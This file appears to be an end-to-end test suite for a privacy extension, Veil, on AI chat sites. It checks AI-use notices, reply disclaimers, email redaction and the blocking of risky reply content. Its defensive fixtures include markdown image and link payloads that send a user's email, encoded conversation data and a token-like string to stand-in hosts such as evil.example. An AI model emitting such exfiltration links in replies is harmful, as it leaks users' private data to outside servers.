/**
 * Issue 7 in real Chromium with the built extension, on the fixture chat pages served at their real
 * origins: the AI-use notice and its acknowledgement gate, a disclaimer on every reply (also after
 * the site re-renders its list), placeholders restored where only the user can see them, and risky
 * images stopped before they leave. One browser for the whole file.
 */
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { WatcherStats } from '../../src/content/replies/observer';
import { DEFAULTS, type Settings } from '../../src/policy/schema';
import { launchBrowser, openSite, SITE_IDS, SITES, type Browser, type OpenSiteOptions, type SiteId } from './harness';
import {
  auditEvents,
  grantClipboard,
  isolated,
  setUserSettings,
  sleep,
  submissions,
  uiClick,
  uiText,
  uiTexts,
  uiTitles,
  until,
  waitForSettings,
} from './veil';

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
  await grantClipboard(browser);
});
afterAll(async () => {
  await browser?.close();
});

const EMAIL = 'jane.doe@example.com';
const DISCLAIMER = DEFAULTS.disclaimerText;

/** Settings for the next pages (replacing the user's), then a page of `site` that has applied them. */
async function open(site: SiteId, settings: Partial<Settings> = {}, opts: OpenSiteOptions = {}) {
  await setUserSettings(browser, settings);
  const { page, recorder } = await openSite(browser, site, opts);
  const ev = await isolated(page);
  await waitForSettings(ev, `s.policyVersion === ${JSON.stringify(settings.policyVersion ?? '')}`);
  return { page, recorder, ev };
}

async function send(page: Page, site: SiteId, text: string): Promise<void> {
  await page.click(SITES[site].composer);
  await page.keyboard.type(text);
  await page.keyboard.press('Enter');
}

// ---------------------------------------------------------------------------------------------
// What the user sees, through the DevTools protocol (as assistive tech does; uiTexts in veil.ts reads closed shadow roots)

/** The accessibility tree's text: what a screen reader announces, and what the user sees. */
async function accessibleText(page: Page): Promise<{ roles: string[]; text: string }> {
  const cdp = await page.context().newCDPSession(page);
  try {
    const { nodes } = (await cdp.send('Accessibility.getFullAXTree')) as {
      nodes: { role?: { value?: string }; name?: { value?: string } }[];
    };
    return {
      roles: nodes.map((n) => n.role?.value ?? ''),
      text: nodes.map((n) => n.name?.value ?? '').join('\n'),
    };
  } finally {
    await cdp.detach();
  }
}

/** Per reply (the harness's reply element), how many Veil disclaimers follow its container. */
function disclaimersPerReply(page: Page, site: SiteId): Promise<{ replies: number; hosts: number; per: number[] }> {
  return page.evaluate((sel) => {
    const replies = [...document.querySelectorAll(sel)];
    const hosts = [...document.querySelectorAll('[data-veil="veil-disclaimer"]')];
    const per = replies.map(
      (r) =>
        hosts.filter(
          (d) => d.previousElementSibling && (d.previousElementSibling === r || d.previousElementSibling.contains(r)),
        ).length,
    );
    return { replies: replies.length, hosts: hosts.length, per };
  }, SITES[site].reply);
}

/** Selects from the start of the first reply to the end of the page, copies with Ctrl+C, returns the clipboard. */
async function copyFromFirstReply(page: Page, site: SiteId): Promise<string> {
  await page.evaluate(() => navigator.clipboard.writeText('(empty)'));
  await page.evaluate((sel) => {
    const first = document.querySelector(sel)!;
    const range = document.createRange();
    range.setStartBefore(first);
    range.setEndAfter(document.body.lastChild!);
    getSelection()!.removeAllRanges();
    getSelection()!.addRange(range);
  }, SITES[site].reply);
  await page.keyboard.press('Control+C');
  return until(
    () => page.evaluate(() => navigator.clipboard.readText()),
    (t) => t !== '(empty)',
  );
}

const rerender = (page: Page): Promise<void> =>
  page.evaluate(() => (window as unknown as { __fixture: { rerenderReplies(): void } }).__fixture.rerenderReplies());

// ---------------------------------------------------------------------------------------------

describe('AI-use notice', () => {
  it('shows on the first visit to a site, then not again; it does not hold sends when not required', async () => {
    const { page, recorder } = await open('deepseek');
    const text = await until(
      () => uiText(page, 'veil-ai-notice'),
      (t) => t !== '',
    );
    expect(text).toContain('You are using an AI service: DeepSeek');
    expect(text).toContain('Do not share personal data');
    expect(text).not.toContain('acknowledge');
    await send(page, 'deepseek', 'hello there');
    await recorder.waitForCount(1);
    await page.close();

    const again = await open('deepseek');
    await sleep(800);
    expect(await uiText(again.page, 'veil-ai-notice')).toBe('');
    await again.page.close();
  });

  it('with requireAcknowledgement nothing is sent until the user acknowledges; the acknowledgement is audited', async () => {
    const settings = {
      requireAcknowledgement: true,
      termsUrl: 'https://intranet.example/ai-terms',
      policyVersion: 'e2e-v1',
    };
    const { page, recorder, ev } = await open('chatgpt', settings);
    const card = await until(
      () => uiText(page, 'veil-ai-notice'),
      (t) => t.includes('I understand'),
    );
    expect(card).toContain('You are using an AI service: ChatGPT');
    expect(card).toContain('Read your organisation’s AI terms');
    expect(card).toContain('Please acknowledge this before you send anything on ChatGPT');

    // Every way of sending: Enter, a click on send, a form submit, an attached file.
    await send(page, 'chatgpt', 'hello before acknowledging');
    await page.click(SITES.chatgpt.send!);
    await page.evaluate(() => document.querySelector('form')!.requestSubmit());
    await page.setInputFiles('input[data-testid="file-input"]', {
      name: 'notes.txt',
      mimeType: 'text/plain',
      buffer: Buffer.from('meeting notes'),
    });
    await sleep(600);
    expect(recorder.all()).toEqual([]);
    expect(await submissions(page)).toEqual([]);
    expect(
      await page.evaluate(() => (window as unknown as { __fixture: { uploads: unknown[] } }).__fixture.uploads),
    ).toEqual([]);
    expect(await uiText(page, 'veil-ai-notice')).toContain('Acknowledge this notice to send your message.');
    expect(await ev<boolean>('globalThis.__veilReplies.notice.gated()')).toBe(true);

    await uiClick(page, 'veil-ai-notice', 'I understand');
    await until(
      () => uiText(page, 'veil-ai-notice'),
      (t) => t === '',
    );
    expect(await ev<boolean>('globalThis.__veilReplies.notice.gated()')).toBe(false);
    await page.click(SITES.chatgpt.composer);
    await page.keyboard.press('Enter'); // the text typed before is still there
    await recorder.waitForCount(1);
    expect(recorder.texts()).toEqual(['hello before acknowledging']);

    const events = await until(
      () => auditEvents(browser),
      (e) => e.some((x) => x.action === 'acknowledged'),
    );
    const ack = events.filter((e) => e.action === 'acknowledged') as unknown as {
      site: string;
      detail: string;
      policyVersion: string;
      trigger: string;
    }[];
    expect(ack).toHaveLength(1);
    expect(ack[0]).toMatchObject({
      site: 'chatgpt',
      trigger: 'page',
      detail: 'ai-use-notice required',
      policyVersion: 'e2e-v1',
    });
    expect(events.some((e) => e.action === 'blocked' && e.detail === 'ai-notice-not-acknowledged')).toBe(true);
    await page.close();

    // Acknowledged for this site and version: the next visit sends at once.
    const next = await open('chatgpt', settings);
    await sleep(800);
    expect(await uiText(next.page, 'veil-ai-notice')).toBe('');
    await send(next.page, 'chatgpt', 'second visit');
    await next.recorder.waitForCount(1);
    await next.page.close();

    // A new policy version asks again.
    const v2 = await open('chatgpt', { ...settings, policyVersion: 'e2e-v2' });
    await until(
      () => uiText(v2.page, 'veil-ai-notice'),
      (t) => t.includes('I understand'),
    );
    await send(v2.page, 'chatgpt', 'new policy');
    await sleep(500);
    expect(v2.recorder.all()).toEqual([]);
    await v2.page.close();
    await setUserSettings(browser, {});
  });
});

describe.each(SITE_IDS)('disclaimer on %s', (site) => {
  it('each reply carries exactly one, also after the site re-renders the list; copying leaves it out', async () => {
    const { page, recorder } = await open(site);
    await send(page, site, 'first question');
    await recorder.waitForCount(1);
    await send(page, site, 'second question');
    await recorder.waitForCount(2);
    const first = await until(
      () => disclaimersPerReply(page, site),
      (d) => d.replies === 2 && d.hosts === 2,
    );
    expect(first.per).toEqual([1, 1]);
    expect(await uiTexts(page, 'veil-disclaimer')).toEqual([`ⓘ${DISCLAIMER}`, `ⓘ${DISCLAIMER}`]);

    await rerender(page);
    const again = await until(
      () => disclaimersPerReply(page, site),
      (d) => d.replies === 2 && d.hosts === 2 && d.per.every((n) => n === 1),
    );
    await sleep(800); // and it stays that way
    expect(await disclaimersPerReply(page, site)).toEqual(again);

    const copied = await copyFromFirstReply(page, site);
    expect(copied).toContain('Echo: first question');
    expect(copied).toContain('Echo: second question');
    expect(copied).not.toContain('AI-generated');
    await page.close();
  });
});

describe('cost and streaming', () => {
  it('a 200-reply conversation and a streamed reply: one disclaimer each, none while the site is still writing', async () => {
    const { page, ev } = await open('chatgpt');
    const stats = () => ev<{ disclaimers: number; observer: WatcherStats }>('globalThis.__veilReplies.stats()');
    // A long conversation, rendered as ChatGPT renders turns.
    await page.evaluate(() => {
      const thread = document.querySelector('.thread')!;
      for (let i = 0; i < 200; i++) {
        const md = Object.assign(document.createElement('div'), { className: 'markdown prose' });
        for (let j = 0; j < 5; j++)
          md.append(
            Object.assign(document.createElement('p'), { textContent: `Reply ${i}, paragraph ${j}: some text.` }),
          );
        const author = document.createElement('div');
        author.setAttribute('data-message-author-role', 'assistant');
        author.append(md);
        const turn = document.createElement('section');
        turn.setAttribute('data-turn', 'assistant');
        turn.append(author);
        thread.append(turn);
      }
    });
    const t0 = Date.now();
    await until(
      () => stats(),
      (s) => s.disclaimers === 200,
      10_000,
    );
    const allLabelled = Date.now() - t0;
    const before = await stats();

    // A reply streamed word by word (150 updates, 20 ms apart) while the stop button shows.
    await page.evaluate(async () => {
      const stop = Object.assign(document.createElement('button'), { textContent: 'Stop' });
      stop.setAttribute('data-testid', 'stop-button');
      document.body.append(stop);
      const p = document.createElement('p');
      const text = document.createTextNode('');
      p.append(text);
      const md = Object.assign(document.createElement('div'), { className: 'markdown prose' });
      md.append(p);
      const author = document.createElement('div');
      author.setAttribute('data-message-author-role', 'assistant');
      author.id = 'streamed';
      author.append(md);
      const turn = document.createElement('section');
      turn.setAttribute('data-turn', 'assistant');
      turn.append(author);
      document.querySelector('.thread')!.append(turn);
      for (let i = 0; i < 150; i++) {
        text.data += `word${i} `;
        await new Promise((r) => setTimeout(r, 20));
      }
    });
    await sleep(1200); // quiet for more than the quiet period, but the stop button is still there
    expect(
      await page.evaluate(() => document.querySelector('#streamed')!.nextElementSibling?.tagName ?? null),
    ).toBeNull();
    const during = await stats();
    await page.evaluate(() => document.querySelector('[data-testid="stop-button"]')!.remove());
    const t1 = Date.now();
    await until(
      () =>
        page.evaluate(() => document.querySelector('#streamed')!.nextElementSibling?.getAttribute('data-veil') ?? null),
      (t) => t === 'veil-disclaimer',
    );
    const afterStop = Date.now() - t1;
    const end = await stats();
    expect(end.disclaimers).toBe(201);
    const streaming = {
      batches: during.observer.batches - before.observer.batches,
      observeMs: +(during.observer.observeMs - before.observer.observeMs).toFixed(1),
      flushes: during.observer.flushes - before.observer.flushes,
      fullScans: during.observer.fullScans - before.observer.fullScans,
    };
    console.log(
      `[replies] 200 replies labelled in ${allLabelled} ms; streaming 150 updates: ${streaming.batches} observer callbacks, ` +
        `${streaming.observeMs} ms in total; longest callback ${end.observer.maxObserveMs.toFixed(2)} ms, longest flush ` +
        `${end.observer.maxFlushMs.toFixed(1)} ms; ${streaming.fullScans} document-wide queries in ${streaming.flushes} ` +
        `flushes; disclaimer ${afterStop} ms after the stop button went`,
    );
    // Work, not wall-clock, is what holds on a shared box: one callback per update, and at most one
    // document-wide query per flush while the stop button shows (not one per pending reply).
    expect(streaming.batches).toBeLessThanOrEqual(152);
    expect(streaming.fullScans).toBeLessThanOrEqual(streaming.flushes);
    // Time bounds an order of magnitude above the typical figures (8 ms, 2 ms, 15 ms), for regressions.
    expect(streaming.observeMs).toBeLessThan(150);
    expect(end.observer.maxFlushMs).toBeLessThan(500);
    await page.close();
  });
});

describe('disclaimer settings', () => {
  it('is announced as a note, follows its settings live, and goes with showDisclaimer: false', async () => {
    const { page, recorder, ev } = await open('claude');
    await send(page, 'claude', 'a question');
    await recorder.waitForCount(1);
    await until(
      () => uiTexts(page, 'veil-disclaimer'),
      (t) => t.length === 1,
    );
    const ax = await accessibleText(page);
    expect(ax.roles).toContain('note');
    expect(ax.text).toContain(DISCLAIMER);

    await setUserSettings(browser, {
      disclaimerText: 'Written by an AI model.',
      disclaimerLinkUrl: 'https://intranet.example/ai',
    });
    await waitForSettings(ev, "s.disclaimerText === 'Written by an AI model.'");
    // (The DevTools protocol drops whitespace-only text nodes: no space before the link here.)
    expect(
      await until(
        () => uiTexts(page, 'veil-disclaimer'),
        (t) => t[0]?.startsWith('ⓘWritten') ?? false,
      ),
    ).toEqual(['ⓘWritten by an AI model.AI policy']);

    await setUserSettings(browser, { showDisclaimer: false });
    await waitForSettings(ev, 's.showDisclaimer === false');
    await until(
      () => disclaimersPerReply(page, 'claude'),
      (d) => d.hosts === 0,
    );
    await rerender(page);
    await sleep(900);
    expect((await disclaimersPerReply(page, 'claude')).hosts).toBe(0);
    await page.close();
    await setUserSettings(browser, {});
  });
});

describe.each(SITE_IDS)('placeholders restored on %s', (site) => {
  it('the user sees the email; the page never can, and copying gives the original', async () => {
    const { page, recorder, ev } = await open(site);
    await send(page, site, `Please write to ${EMAIL} today`);
    await recorder.waitForCount(1);
    // From now on the page's own scripts watch everything (as a hostile or curious site could).
    // (Before, they saw the address being typed: that is the user's own doing.)
    await page.evaluate(() => {
      const seen: string[] = [];
      (window as unknown as { __seen: string[] }).__seen = seen;
      new MutationObserver((records) => {
        for (const r of records) {
          seen.push(r.target.textContent ?? '');
          for (const n of r.addedNodes) seen.push(n.textContent ?? '');
        }
      }).observe(document, { subtree: true, childList: true, characterData: true, attributes: true });
      document.addEventListener('copy', () => seen.push(`copy:${getSelection()}`));
    });
    expect(recorder.texts()).toEqual(['Please write to [EMAIL_1] today']);
    expect(recorder.all().join('\n')).not.toContain(EMAIL);
    await until(
      () => page.locator(SITES[site].reply).last().textContent(),
      (t) => t?.includes('[EMAIL_1]') ?? false,
    );

    // The user gets the address on hovering the marked placeholder (a tooltip the page cannot read).
    const titles = await until(
      () => uiTitles(page, 'veil-restored'),
      (t) => t.length === 1 && t[0] !== '',
    );
    expect(titles[0]).toContain(EMAIL);
    expect(titles[0]).toContain('[EMAIL_1]');
    expect(await ev('globalThis.__veilReplies.stats().restored')).toBe(1);

    // The page's world: not in its text, its DOM, its observers, its selection.
    const pageView = await page.evaluate(() => ({
      innerText: document.body.innerText,
      html: document.documentElement.outerHTML,
      text: document.documentElement.textContent ?? '',
    }));
    expect(pageView.innerText).not.toContain(EMAIL);
    expect(pageView.html).not.toContain(EMAIL);
    expect(pageView.text).not.toContain(EMAIL);
    expect(pageView.text).toContain('[EMAIL_1]'); // the page's own DOM still holds the placeholder
    expect(pageView.innerText).toContain('[EMAIL_1]'); // and renders it: nothing to measure

    const copied = await copyFromFirstReply(page, site);
    expect(copied).toContain(`Echo: Please write to ${EMAIL} today`);
    expect(copied).not.toContain('[EMAIL_1]');
    expect(copied).not.toContain('AI-generated');
    const seen = await page.evaluate(() => (window as unknown as { __seen: string[] }).__seen.join('\n'));
    expect(seen).not.toContain(EMAIL);
    expect(seen).not.toContain('copy:'); // the copy with values never reached the page's listeners

    // Re-rendered: restored again on the new nodes.
    await rerender(page);
    expect(
      (
        await until(
          () => uiTitles(page, 'veil-restored'),
          (t) => t.length === 1 && t[0] !== '',
        )
      )[0],
    ).toContain(EMAIL);
    expect(await page.evaluate(() => document.body.innerText)).not.toContain(EMAIL);
    await page.close();
  });
});

describe('risky replies', () => {
  const TOKEN = 'ghp_R8sLq2vXo4Tn7WcY1mZp3Kd6Hf9Jb0Ae5Ug2';
  const EVIL = ['evil.example', 'stats.example', 'mo-too-late.example'];

  it('images carrying a redacted value or query data are flagged and never leave; risky links are not followed', async () => {
    const reply = (sent: string): string =>
      [
        `Echo: ${sent}`,
        `Your badge: ![badge](https://evil.example/pixel.png?u=${encodeURIComponent(EMAIL)})`,
        `Also: ![avatar](https://evil.example/u/${EMAIL}/a.png)`,
        'A chart: ![chart](https://stats.example/c.png?d=c2VjcmV0IGNvbnZlcnNhdGlvbiBkYXRh)',
        'A cat: ![cat](https://images.example/cat.png)',
        `Your [profile](https://evil.example/profile?email=${encodeURIComponent(EMAIL)}) and [docs](https://docs.example/start?t=${TOKEN})`,
      ].join('\n');
    // The per-site image rules are in force (the worker applies them at start-up).
    await until(
      () =>
        browser.worker!.evaluate(
          async () => (await chrome.declarativeNetRequest.getSessionRules()).filter((r) => r.id < 100).length,
        ),
      (n) => n >= 6,
      10_000,
    );
    const { page, recorder } = await open('chatgpt', {}, { reply });
    const failed: string[] = [];
    page.on('requestfailed', (r) => failed.push(`${r.url()} ${r.failure()?.errorText ?? ''}`));

    await send(page, 'chatgpt', `My email is ${EMAIL}, make me a badge`);
    await recorder.waitForCount(1);
    expect(recorder.texts()).toEqual(['My email is [EMAIL_1], make me a badge']);

    const warning = await until(
      () => uiTexts(page, 'veil-warning'),
      (t) => (t[0]?.match(/was not loaded|was disabled/g) ?? []).length >= 5,
    );
    expect(warning[0]).toContain('Veil: be careful with this reply');
    expect(warning[0]).toContain('An image from evil.example was not loaded: its address carries your email address');
    expect(warning[0]).toContain('An image from stats.example was not loaded: its address carries data');
    expect(warning[0]).toContain('A link to evil.example was disabled');
    expect(warning[0]).toContain(
      'A link to docs.example was disabled: its address holds what looks like an access key',
    );
    expect(warning[0]).not.toContain('images.example');

    // The control image (third-party, no data) did leave: the recorder sees image requests.
    await until(
      async () => recorder.aborted,
      (a) => a.some((u) => u.startsWith('https://images.example/cat.png')),
      10_000,
    );
    await sleep(500);
    const left = [...recorder.aborted, ...browser.aborted];
    // None of the risky ones did.
    expect(left.filter((u) => EVIL.some((h) => u.includes(h)))).toEqual([]);
    // Each one the browser reports was stopped by the extension's rules (ERR_BLOCKED_BY_CLIENT) or
    // cancelled in the renderer when Veil removed its src (ERR_ABORTED); none by the route (".Inspector").
    const risky = failed.filter((f) => f.includes('evil.example') || f.includes('stats.example'));
    expect(risky.filter((f) => !/net::ERR_(BLOCKED_BY_CLIENT|ABORTED)$/.test(f))).toEqual([]);
    console.log(
      `[replies] risky image requests: ${risky.map((f) => f.split(' ').at(-1)).join(', ')}; reached the route: 0`,
    );
    const imgs = await page.evaluate(() =>
      [...document.querySelectorAll('img')].map((i) => ({ alt: i.alt, src: i.getAttribute('src') })),
    );
    expect(imgs).toEqual([
      { alt: 'badge', src: null },
      { alt: 'avatar', src: null },
      { alt: 'chart', src: null },
      { alt: 'cat', src: 'https://images.example/cat.png' },
    ]);

    // A flagged link is not followed.
    await page.click('a[href*="profile"]');
    await until(
      () => uiText(page, 'veil-notice'),
      (t) => t.includes('Veil did not open this link'),
    );
    await sleep(300);
    expect([...recorder.aborted, ...browser.aborted].filter((u) => u.includes('profile'))).toEqual([]);
    expect(page.url()).toBe('https://chatgpt.com/');
    await page.close();
  });

  it('measured: removing images in a MutationObserver does not stop them; only the network rule does', async () => {
    // A page-world observer runs its callbacks at the same point as Veil's isolated-world one. How many requests
    // leave before it runs depends on the renderer's request queue: on a loaded machine a run of 10 images once let
    // none through. The claim is that an observer does not reliably stop them, so one leak in up to 3 runs of 30
    // images proves it; the test fails only if every run stops every request.
    const N = 30;
    const reply = (): string =>
      Array.from({ length: N }, (_, i) => `Look: ![x${i}](https://mo-too-late.example/x${i}.png)`).join('\n');
    const leaks: number[] = [];
    for (let run = 0; run < 3 && !leaks.some((n) => n > 0); run++) {
      const { page, recorder } = await open('chatgpt', {}, { reply });
      await page.evaluate(() => {
        new MutationObserver((records) => {
          for (const r of records)
            for (const n of r.addedNodes)
              if (n instanceof Element) for (const img of n.querySelectorAll('img')) img.removeAttribute('src');
        }).observe(document, { subtree: true, childList: true });
      });
      await send(page, 'chatgpt', 'show me');
      await page.waitForSelector(`img[alt="x${N - 1}"]`, { state: 'attached' });
      // The observer did strip every src ...
      expect(
        await page.evaluate(() => [...document.querySelectorAll('img')].filter((i) => i.hasAttribute('src')).length),
      ).toBe(0);
      // ... and yet requests may already have left.
      const leaked = (): number => recorder.aborted.filter((u) => u.includes('mo-too-late.example')).length;
      await until(
        async () => leaked(),
        (n) => n > 0,
        5_000,
      ).catch(() => 0);
      await sleep(500);
      leaks.push(leaked());
      await page.close();
    }
    console.log(
      `[replies] images stripped by a MutationObserver: ${leaks.map((n) => `${n} of ${N}`).join(', ')} requests still reached the network`,
    );
    expect(leaks.some((n) => n > 0)).toBe(true);
  });
});
